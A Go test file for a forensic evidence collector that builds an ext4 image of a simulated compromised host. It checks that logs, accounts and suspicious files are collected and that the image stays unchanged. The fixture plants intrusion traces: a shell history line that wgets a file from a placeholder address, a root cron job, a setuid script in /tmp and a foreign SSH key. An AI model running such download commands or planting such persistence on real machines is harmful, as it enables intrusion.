package forensics

import (
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"firebreak/record"
)

// diskImage makes an ext4 image of a small host. A file was removed from it.
func diskImage(t *testing.T) string {
	t.Helper()
	var mkfs, debugfs string
	for _, dir := range []string{"", "/sbin/", "/usr/sbin/"} {
		if p, err := exec.LookPath(dir + "mke2fs"); err == nil {
			mkfs, debugfs = p, filepath.Join(filepath.Dir(p), "debugfs")
		}
	}
	if mkfs == "" {
		t.Skip("mke2fs is not installed (e2fsprogs)")
	}
	dir := t.TempDir()
	for name, text := range map[string]string{
		"etc/hostname":                  "mail-3\n",
		"etc/passwd":                    "root:x:0:0::/root:/bin/bash\nada:x:1000:1000::/home/ada:/bin/bash\n",
		"etc/crontab":                   "* * * * * root /tmp/x\n",
		"var/log/auth.log":              "Nov 20 03:12:01 mail-3 sshd[4711]: Accepted publickey for ada from 203.0.113.66 port 50222 ssh2\n",
		"home/ada/.bash_history":        "wget http://198.51.100.7/x\n",
		"home/ada/.ssh/authorized_keys": "ssh-ed25519 AAAA eve\n",
		"etc/shadow":                    "root:!:19000::::::\nada:$6$salt$hash:19000:0:99999:7:::\n",
		"etc/group":                     "root:x:0:\nsudo:x:27:ada\n",
		"tmp/x":                         "#!/bin/sh\n",
		"tmp/removed":                   "gone\n",
	} {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o755), os.WriteFile(p, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("/usr/share/zoneinfo/Europe/Berlin", filepath.Join(dir, "etc/localtime")); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(filepath.Join(dir, "tmp/x"), 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "root.dd")
	for _, c := range [][]string{
		{mkfs, "-q", "-F", "-t", "ext4", "-d", dir, file, "16M"},
		{debugfs, "-w", "-R", "rm /tmp/removed", file},
	} {
		if out, err := exec.CommandContext(t.Context(), c[0], c[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v\n%s", c, err, out)
		}
	}
	return file
}

// fromImage collects and returns what was sealed, with the listing.
func fromImage(t *testing.T, o Options) (record.Collection, []record.Exhibit, string, map[string]string) {
	t.Helper()
	l := newLocker(t)
	o.Sink, o.Now = l, time.Now
	var xs []record.Exhibit
	c, err := Collect(t.Context(), o, func(x record.Exhibit) error { xs = append(xs, x); return nil })
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]string{}
	for _, x := range xs {
		if x.Format != FormatBodyfile && x.Format != FormatFiles && x.Format != FormatAccounts {
			continue
		}
		r, err := l.Open(x.Blob)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err = errors.Join(err, r.Close()); err != nil {
			t.Fatal(err)
		}
		seen[x.Format] = string(b)
	}
	if seen[FormatBodyfile] == "" {
		t.Fatalf("no listing among %d exhibits", len(xs))
	}
	return c, xs, seen[FormatBodyfile], seen
}

// TestDiskImage collects from an image file, and from a disk with a partition
// that holds it, and leaves it as it was.
func TestDiskImage(t *testing.T) {
	t.Parallel()
	plain := diskImage(t)
	b, err := os.ReadFile(plain)
	if err != nil {
		t.Fatal(err)
	}
	parted := filepath.Join(t.TempDir(), "disk.dd")
	mbr := make([]byte, 1<<20)
	mbr[510], mbr[511], mbr[446+4] = 0x55, 0xaa, 0x83
	binary.LittleEndian.PutUint32(mbr[446+8:], 2048)
	binary.LittleEndian.PutUint32(mbr[446+12:], uint32(len(b)/512))
	mbr[462+4] = 0x82 // swap, without anything in it
	binary.LittleEndian.PutUint32(mbr[462+8:], 1)
	binary.LittleEndian.PutUint32(mbr[462+12:], 100)
	if err := os.WriteFile(parted, append(mbr, b...), 0o600); err != nil {
		t.Fatal(err)
	}
	if list, err := Partitions(parted); err != nil || len(list) != 2 || list[0].Kind != "ext" || list[1].Kind != "" || list[1].Number != 2 {
		t.Errorf("%+v, %v", list, err)
	}
	images := map[string]string{plain: plain, parted: parted + ", partition 1"}
	if tool, err := exec.LookPath("qemu-img"); err == nil {
		packed := filepath.Join(t.TempDir(), "disk.qcow2")
		if out, err := exec.CommandContext(t.Context(), tool, "convert", "-c", "-O", "qcow2", parted, packed).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		images[packed] = packed + ", partition 1"
	}
	for root, named := range images {
		before := fileSum(t, root)
		o := Options{Root: root}
		if root != plain {
			o.Partition = 1
		}
		c, xs, listing, seen := fromImage(t, o)
		if c.Host != "mail-3" || c.Root != root || c.Cut != "" {
			t.Errorf("%+v", c)
		}
		for _, want := range []string{"/var/log/auth.log", "/home/ada/.bash_history", "/home/ada/.ssh/authorized_keys", "/etc/crontab", "/etc/passwd"} {
			i := slices.IndexFunc(xs, func(x record.Exhibit) bool { return x.Source == want })
			if i < 0 {
				t.Errorf("%s was not taken", want)
				continue
			}
			x := xs[i]
			if x.Host != "mail-3" || x.Origin != record.OriginImage || x.Root != named || x.Before == nil || x.Before.Modified.IsZero() || x.Reading == nil || x.Reading.Zone != "Europe/Berlin" {
				t.Errorf("%s: %+v", want, x)
			}
		}
		for _, want := range []string{"|/tmp/x|", "|/etc/localtime -> /usr/share/zoneinfo/Europe/Berlin|", "/tmp/removed (deleted"} {
			if !strings.Contains(listing, want) {
				t.Errorf("%q is not in the listing", want)
			}
		}
		for format, want := range map[string]string{
			FormatFiles:    `"path":"/tmp/x","why":["executable","setuid","temporary"]`,
			FormatAccounts: `"name":"ada","uid":1000,`,
		} {
			if !strings.Contains(seen[format], want) || strings.Contains(seen[format], "$hash") {
				t.Errorf("%s: %s", format, seen[format])
			}
		}
		if sum := sha256.Sum256([]byte("#!/bin/sh\n")); !strings.Contains(seen[FormatFiles], hex.EncodeToString(sum[:])) || !strings.Contains(seen[FormatFiles], `"interpreter":"/bin/sh"`) {
			t.Errorf("the hash is not there: %s", seen[FormatFiles])
		}
		if fileSum(t, root) != before {
			t.Error("the image was changed")
		}
	}
}

func fileSum(t *testing.T, name string) [32]byte {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(b)
}

// TestDiskImageRefused says what is in an image that cannot be read.
func TestDiskImageRefused(t *testing.T) {
	t.Parallel()
	for begin, want := range map[string]string{
		"QFI\xfb": "qcow2", "XFSB": "xfs", "LUKS\xba\xbe": "encrypted", "\x00": "no known file system",
	} {
		file := filepath.Join(t.TempDir(), "x.dd")
		if err := os.WriteFile(file, append([]byte(begin), make([]byte, 256<<10)...), 0o600); err != nil {
			t.Fatal(err)
		}
		o := Options{Root: file, Sink: newLocker(t), Now: time.Now}
		_, err := Collect(context.Background(), o, func(record.Exhibit) error { return nil })
		if !errors.Is(err, ErrImage) || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", begin, err, want)
		}
	}
}

// TestNoSuchPartition says which ones there are.
func TestNoSuchPartition(t *testing.T) {
	t.Parallel()
	o := Options{Root: diskImage(t), Partition: 3, Sink: newLocker(t), Now: time.Now}
	_, err := Collect(t.Context(), o, func(record.Exhibit) error { return nil })
	if !errors.Is(err, ErrImage) || !strings.Contains(err.Error(), "no table of partitions") {
		t.Error(err)
	}
}
